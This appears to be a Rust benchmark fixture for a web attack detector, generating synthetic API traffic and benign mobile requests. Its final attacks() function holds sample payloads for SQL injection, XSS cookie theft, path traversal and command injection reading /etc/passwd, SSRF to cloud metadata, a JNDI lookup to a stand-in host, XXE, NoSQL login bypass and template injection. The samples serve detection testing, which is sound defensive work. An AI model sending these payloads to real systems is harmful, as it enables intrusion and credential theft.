//! The request sets the bench and the cost example scan: the bench capture's traffic (as
//! `apitap-gen-traffic` writes it, `bench/src/http.rs`), a mobile client's API requests with
//! trickier content, and one request per attack class.
//!
//! Shared by `benches/detect.rs` and `examples/detect_cost.rs` (included by path there).

#![allow(dead_code)] // each includer uses part of it

use std::fmt::Write;

use apitap_detect::{Detector, Finding, Request, Scanner};

/// An owned request; [`Owned::scan`] borrows it as a [`Request`].
pub struct Owned {
    pub method: &'static str,
    pub target: String,
    pub headers: Vec<(&'static str, String)>,
    pub body: Vec<u8>,
}

impl Owned {
    fn bare(method: &'static str, target: String) -> Owned {
        Owned {
            method,
            target,
            headers: Vec::new(),
            body: Vec::new(),
        }
    }

    fn get(target: &str) -> Owned {
        Owned {
            headers: browser_headers(),
            ..Owned::bare("GET", target.into())
        }
    }

    fn post(target: &str, content_type: &'static str, body: &str) -> Owned {
        let mut o = Owned::get(target);
        o.method = "POST";
        o.headers.push(("Content-Type", content_type.into()));
        o.body = body.as_bytes().to_vec();
        o
    }

    fn with_header(mut self, name: &'static str, value: &str) -> Owned {
        self.headers.push((name, value.into()));
        self
    }

    /// This request with its headers borrowed, ready to be read as a [`Request`] again and
    /// again without allocating.
    pub fn prepare(&self) -> Prepared<'_> {
        Prepared {
            owned: self,
            headers: self.headers.iter().map(|(n, v)| (*n, v.as_str())).collect(),
        }
    }
}

/// An [`Owned`] request with its header list borrowed.
pub struct Prepared<'a> {
    owned: &'a Owned,
    headers: Vec<(&'a str, &'a str)>,
}

impl Prepared<'_> {
    /// The request as the detector takes it.
    pub fn request(&self) -> Request<'_> {
        Request {
            method: self.owned.method,
            target: &self.owned.target,
            headers: &self.headers,
            body: &self.owned.body,
            body_truncated: false,
            endpoint: None,
            client: None,
        }
    }
}

/// What scans the sets: a shared detector, or a worker's scanner with its memory.
pub enum By {
    Detector(Detector),
    Scanner(Box<Scanner>),
}

impl By {
    /// Scans `req` into `out` (cleared first); returns the number of findings.
    pub fn scan(&mut self, req: &Prepared<'_>, out: &mut Vec<Finding>) -> usize {
        out.clear();
        let r = req.request();
        match self {
            By::Detector(d) => d.scan(&r, out),
            By::Scanner(s) => s.scan(&r, out),
        };
        out.len()
    }
}

// ---------------------------------------------------------------------------------------------
// The bench capture's traffic

/// Connections open at once in `apitap-gen-traffic` (its `--connections` default): each
/// request comes from a random one, so a client's next request is thousands of requests away.
const CONNECTION_SLOTS: usize = 2_000;
/// Most requests on one keep-alive connection (the generator's default).
const MAX_REQUESTS_PER_CONNECTION: u64 = 100;
/// The generator's user agents, one per client.
const USER_AGENTS: &[&str] = &[
    "okhttp/4.12.0",
    "python-requests/2.32.3",
    "axios/1.7.2",
    "Go-http-client/1.1",
    "MyShopApp/5.3.1 (iPhone; iOS 17.5; Scale/3.00)",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
];
const HOSTS: &[&str] = &[
    "api.example.com",
    "shop.example.com",
    "orders.internal.example.com:8080",
    "users.internal.example.com:8080",
];
const CITIES: &[&str] = &[
    "Berlin", "Lyon", "Porto", "Oslo", "Gdansk", "Turin", "Ghent", "Cork",
];
/// base64url (RFC 4648 section 5): the generator's tokens and cookies.
const B64URL: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

/// splitmix64: a small deterministic generator, so every run scans the same requests.
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Rng {
        Rng(seed)
    }
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
    fn range(&mut self, lo: u64, hi: u64) -> u64 {
        lo + self.below(hi - lo + 1)
    }
    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }
    fn pick_str(&mut self, items: &[&'static str]) -> &'static str {
        items[self.below(items.len() as u64) as usize]
    }
    fn token(&mut self, len: usize) -> String {
        (0..len).map(|_| char::from(*self.pick(B64URL))).collect()
    }
}

/// One client of the generator: the same token, cookie and agent on every request.
struct Client {
    token: String,
    session: String,
    user_agent: &'static str,
    host: &'static str,
    requests_left: u64,
}

impl Client {
    fn new(rng: &mut Rng) -> Client {
        let user = rng.below(1_000_000);
        let claims = format!(
            r#"{{"sub":"user-{user}","iat":1700000000,"exp":1700003600,"scope":"api:read api:write"}}"#
        );
        Client {
            token: format!(
                "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.{}.{}",
                base64url(claims.as_bytes()),
                rng.token(43)
            ),
            session: rng.token(32),
            user_agent: rng.pick_str(USER_AGENTS),
            host: rng.pick_str(HOSTS),
            requests_left: rng.range(1, MAX_REQUESTS_PER_CONNECTION),
        }
    }
}

/// base64url without padding, as JWTs carry it.
fn base64url(data: &[u8]) -> String {
    let mut out = String::new();
    for chunk in data.chunks(3) {
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let n = u32::from(b[0]) << 16 | u32::from(b[1]) << 8 | u32::from(b[2]);
        for i in 0..=chunk.len() {
            out.push(char::from(B64URL[(n >> (18 - 6 * i) & 0x3f) as usize]));
        }
    }
    out
}

/// `n` requests shaped as `apitap-gen-traffic` writes them (`bench/src/http.rs`): its
/// operation mix (35 % `GET /users/{id}`, 30 % product pages, 15 % order creation with a JSON
/// body, 10 % user updates, 10 % deletes), its headers, agents, tokens and cookies, from
/// clients on many interleaved connections.
pub fn bench_traffic(n: usize, seed: u64) -> Vec<Owned> {
    let mut rng = Rng::new(seed);
    let mut slots: Vec<Client> = (0..CONNECTION_SLOTS)
        .map(|_| Client::new(&mut rng))
        .collect();
    (0..n)
        .map(|_| {
            let slot = rng.below(CONNECTION_SLOTS as u64) as usize;
            let req = bench_request(&mut rng, &slots[slot]);
            slots[slot].requests_left -= 1;
            if slots[slot].requests_left == 0 {
                slots[slot] = Client::new(&mut rng);
            }
            req
        })
        .collect()
}

/// One request of `client`, by the generator's operation mix.
fn bench_request(rng: &mut Rng, client: &Client) -> Owned {
    let op = rng.below(100);
    let mut req = match op {
        0..=34 => Owned::bare("GET", format!("/api/v1/users/{}", rng.below(1_000_000))),
        35..=64 => Owned::bare(
            "GET",
            format!(
                "/api/v1/products?page={}&per_page=50&sort=price",
                rng.range(1, 500)
            ),
        ),
        65..=79 => {
            let mut o = Owned::bare("POST", "/api/v1/orders".into());
            o.body = order_json(rng).into_bytes();
            o
        }
        80..=89 => {
            let mut o = Owned::bare("PUT", format!("/api/v1/users/{}", rng.below(1_000_000)));
            o.body = format!(
                r#"{{"address":{{"city":"{}","zip":"{:05}"}},"newsletter":{}}}"#,
                rng.pick(CITIES),
                rng.below(100_000),
                rng.below(2) == 0
            )
            .into_bytes();
            o
        }
        _ => Owned::bare("DELETE", format!("/api/v1/orders/{}", rng.below(1 << 32))),
    };
    req.headers = vec![
        ("Host", client.host.into()),
        ("User-Agent", client.user_agent.into()),
        ("Accept", "application/json".into()),
        ("Accept-Encoding", "gzip, deflate".into()),
        ("Authorization", format!("Bearer {}", client.token)),
        (
            "Cookie",
            format!("session={}; locale=en-US", client.session),
        ),
        ("X-Request-Id", format!("{:016x}", rng.next())),
    ];
    if !req.body.is_empty() {
        req.headers
            .push(("Content-Type", "application/json".into()));
        req.headers
            .push(("Content-Length", req.body.len().to_string()));
    }
    req
}

/// An order as the generator's client sends it.
fn order_json(rng: &mut Rng) -> String {
    let mut out = format!(r#"{{"customer_id":{},"items":["#, rng.below(1_000_000));
    for i in 0..rng.range(1, 12) {
        if i > 0 {
            out.push(',');
        }
        let _ = write!(
            out,
            r#"{{"product_id":{},"quantity":{},"unit_price":{}.{:02}}}"#,
            rng.below(500_000),
            rng.range(1, 5),
            rng.range(1, 999),
            rng.below(100)
        );
    }
    let method = if rng.below(2) == 0 {
        "standard"
    } else {
        "express"
    };
    let _ = write!(
        out,
        r#"],"shipping":{{"method":"{method}","city":"{}"}},"payment":{{"method":"card","token":"tok_{}"}}}}"#,
        rng.pick(CITIES),
        rng.token(24)
    );
    out
}

// ---------------------------------------------------------------------------------------------
// A mobile client's requests, with trickier content

/// The headers of a mobile or browser API client, as most requests carry them.
fn browser_headers() -> Vec<(&'static str, String)> {
    vec![
        ("Host", "api.shop.example".into()),
        ("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148".into()),
        ("Accept", "application/json".into()),
        ("Accept-Language", "en-IE,en;q=0.9".into()),
        ("Authorization", "Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiI0MiJ9.c2ln".into()),
        ("Cookie", "sid=6f1c2a9e0b7d4e3f; theme=dark; lang=en-IE".into()),
        ("X-Request-ID", "3f2b1c9a-8d7e-4f6a-b5c4-d3e2f1a0b9c8".into()),
    ]
}

/// Typical benign API requests of a mobile client: query strings, JSON bodies with prose and
/// apostrophes, GraphQL, a token form.
pub fn mobile() -> Vec<Owned> {
    vec![
        Owned::get("/api/v1/orders/48213?fields=id,total,status&expand=items"),
        Owned::get("/api/v1/search?q=red+running+shoes&page=2&sort=price_asc&size=42"),
        Owned::get("/api/v1/users/3f2b1c9a-8d7e-4f6a-b5c4-d3e2f1a0b9c8/addresses"),
        Owned::post(
            "/api/v1/cart/items",
            "application/json",
            r#"{"sku":"SKU-1042","qty":2,"gift":false,"note":"Please wrap it, it's for my sister's birthday!"}"#,
        ),
        Owned::post(
            "/api/v1/users/42",
            "application/json",
            r#"{"name":"Seán O'Brien","email":"sean.obrien@example.com","address":{"street":"12 O'Connell Street","city":"Dublin","zip":"D01 F5P2"},"phone":"+353 1 555 0100","marketing":{"email":true,"sms":false}}"#,
        ),
        Owned::post(
            "/graphql",
            "application/json",
            r#"{"operationName":"Orders","query":"query Orders($first: Int!) { viewer { orders(first: $first) { edges { node { id total status } } } } }","variables":{"first":20}}"#,
        ),
        Owned::post(
            "/oauth/token",
            "application/x-www-form-urlencoded",
            "grant_type=refresh_token&refresh_token=8xLOxBtZp8&client_id=web-app",
        ),
        Owned::get("/api/v1/products?category=shoes&min_price=20&max_price=120&in_stock=true"),
    ]
}

// ---------------------------------------------------------------------------------------------
// Attacks

/// One request per class, the attack where that class usually arrives.
pub fn attacks() -> Vec<(&'static str, Owned)> {
    vec![
        ("sqli", Owned::get("/api/v1/orders?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--")),
        ("xss", Owned::post("/api/v1/reviews", "application/json", r#"{"product":42,"text":"<img src=x onerror=alert(document.cookie)>"}"#)),
        ("traversal", Owned::get("/api/v1/files?name=..%2f..%2f..%2f..%2fetc%2fpasswd")),
        ("cmdi", Owned::post("/api/v1/diag/ping", "application/json", r#"{"host":"127.0.0.1; cat /etc/passwd"}"#)),
        ("ssrf", Owned::post("/api/v1/webhooks", "application/json", r#"{"url":"http://169.254.169.254/latest/meta-data/iam/"}"#)),
        ("jndi", Owned::get("/api/v1/items").with_header("X-Api-Version", "${${lower:j}ndi:ldap://x.example/a}")),
        ("xxe", Owned::post("/api/v1/import", "application/xml", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>")),
        ("nosqli", Owned::post("/api/login", "application/json", r#"{"username":"admin","password":{"$ne":null}}"#)),
        ("ssti", Owned::get("/api/v1/greet?name=%7B%7B7*7%7D%7D")),
        ("scanner", Owned::get("/.git/config").with_header("User-Agent", "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))")),
    ]
}
